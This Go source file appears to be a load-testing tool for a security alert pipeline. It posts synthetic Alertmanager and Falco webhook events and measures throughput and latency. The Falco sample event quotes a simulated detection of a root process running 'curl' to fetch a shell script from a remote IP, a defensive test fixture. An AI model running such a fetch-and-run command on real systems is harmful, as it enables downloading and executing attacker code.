package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/firebreak/firebreak/internal/loadid"
)

// body is one kind of request: the hook it is posted to, the events each
// request carries, and a generator of a body whose events all have ids no
// other body of the run has.
type body struct {
	name       string
	hook       string
	perRequest int
	make       func(run string, i int64) []byte
}

var bodies = []body{
	{"alertmanager one alert", "alertmanager", 1, amBody(1)},
	{"alertmanager ten alerts", "alertmanager", 10, amBody(10)},
	{"falco event", "falco", 1, falcoBody},
}

// amBody returns a generator of Alertmanager bodies grouping n firing
// alerts, each with a distinct fingerprint. A fingerprint is a hash in
// Alertmanager, so it is scattered here too (internal/loadid): the run's
// first 6 hex digits, then 10 of the scattered counter.
func amBody(n int) func(string, int64) []byte {
	return func(run string, i int64) []byte {
		at := time.Now().UTC().Format(time.RFC3339Nano)
		alerts := make([]string, n)
		for k := range alerts {
			id := i*int64(n) + int64(k)
			alerts[k] = fmt.Sprintf(`{"status":"firing","labels":{"alertname":"KubePodCrashLooping","namespace":"shop","deployment":"cart-api","pod":"cart-api-7d9c-%d","severity":"critical"},"annotations":{"summary":"pod is crash looping","description":"Pod shop/cart-api is restarting 3 times / 5 minutes."},"startsAt":"%s","endsAt":"0001-01-01T00:00:00Z","generatorURL":"http://prometheus.example/graph?g0.expr=x","fingerprint":"%.6s%010x"}`, id, at, run, loadid.Scatter(uint64(id), 40))
		}
		return []byte(`{"version":"4","status":"firing","receiver":"fb","groupKey":"{}:{alertname=\"KubePodCrashLooping\", namespace=\"shop\"}","groupLabels":{"alertname":"KubePodCrashLooping","namespace":"shop"},"alerts":[` + strings.Join(alerts, ",") + `]}`)
	}
}

// falcoBody returns a falcosidekick body with a distinct uuid, whose last
// group is the scattered counter (a uuid is random in Falco).
func falcoBody(run string, i int64) []byte {
	return []byte(fmt.Sprintf(`{"uuid":"3f1c6b0e-8a2d-4b7e-%s-%012x","output":"Notice Unexpected outbound connection (command=curl -s http://198.51.100.23/x.sh user=root k8s_ns=shop k8s_pod=cart-api-6d8f9c7b5-x2lkq)","priority":"Notice","rule":"Unexpected outbound connection destination","time":"%s","output_fields":{"container.id":"4b9e1d2c7a3f","evt.type":"connect","fd.cip":"10.42.3.17","fd.cport":48122,"fd.sip":"198.51.100.23","fd.sport":80,"k8s.ns.name":"shop","k8s.pod.name":"cart-api-6d8f9c7b5-x2lkq","proc.cmdline":"curl -s http://198.51.100.23/x.sh","proc.name":"curl","user.name":"root","user.uid":0},"source":"syscall","tags":["container","network"],"hostname":"worker-07"}`,
		run[:4], loadid.Scatter(uint64(i), 48), time.Now().UTC().Format(time.RFC3339Nano)))
}

// result is what one load against one target measured.
type result struct {
	requests int64
	accepted int64 // events the 202 answers said were accepted
	errors   int64 // transport errors and answers other than 202
	firstErr string
	elapsed  time.Duration
	lat      []time.Duration // per acknowledged request, sorted
}

func (r result) rate() float64 {
	if r.elapsed <= 0 {
		return 0
	}
	return float64(r.accepted) / r.elapsed.Seconds()
}

// p99 is the 99th percentile acknowledgement latency (0 with no answers).
func (r result) p99() time.Duration { return percentile(r.lat, 0.99) }

// percentile returns the q-quantile of sorted (nearest rank).
func percentile(sorted []time.Duration, q float64) time.Duration {
	if len(sorted) == 0 {
		return 0
	}
	i := int(float64(len(sorted))*q+0.5) - 1
	return sorted[min(max(i, 0), len(sorted)-1)]
}

// drive posts bodies to url from the given number of concurrent clients,
// until d has passed or maxEvents events were posted, whichever is first.
// next numbers the bodies across the whole run, so no id repeats.
func drive(ctx context.Context, url string, clients int, d time.Duration, maxEvents int64, b body, run string, next *atomic.Int64) result {
	client := &http.Client{
		Timeout:   30 * time.Second,
		Transport: &http.Transport{MaxIdleConnsPerHost: clients, MaxConnsPerHost: clients},
	}
	defer client.CloseIdleConnections()
	maxRequests := max(1, maxEvents/int64(b.perRequest))
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	var (
		sent     atomic.Int64
		accepted atomic.Int64
		errs     atomic.Int64
		mu       sync.Mutex
		lat      []time.Duration
		firstErr string
		wg       sync.WaitGroup
	)
	fail := func(msg string) {
		errs.Add(1)
		mu.Lock()
		if firstErr == "" {
			firstErr = msg
		}
		mu.Unlock()
	}
	start := time.Now()
	for range clients {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var mine []time.Duration
			defer func() { mu.Lock(); lat = append(lat, mine...); mu.Unlock() }()
			for ctx.Err() == nil && sent.Add(1) <= maxRequests {
				payload := b.make(run, next.Add(1))
				t0 := time.Now()
				n, err := post(client, url, payload)
				if err != nil {
					fail(err.Error())
					continue
				}
				mine = append(mine, time.Since(t0))
				accepted.Add(n)
			}
		}()
	}
	wg.Wait()
	elapsed := time.Since(start)
	slices.Sort(lat)
	return result{
		requests: min(sent.Load(), maxRequests),
		accepted: accepted.Load(),
		errors:   errs.Load(),
		firstErr: firstErr,
		elapsed:  elapsed,
		lat:      lat,
	}
}

// post sends one body and returns the events the 202 answer accepted.
func post(client *http.Client, url string, payload []byte) (int64, error) {
	resp, err := client.Post(url, "application/json", bytes.NewReader(payload))
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil {
		return 0, err
	}
	if resp.StatusCode != http.StatusAccepted {
		return 0, fmt.Errorf("status %d: %s", resp.StatusCode, bytes.TrimSpace(raw))
	}
	var ack struct {
		Accepted int64 `json:"accepted"`
	}
	if err := json.Unmarshal(raw, &ack); err != nil {
		return 0, fmt.Errorf("answer %q: %w", raw, err)
	}
	return ack.Accepted, nil
}
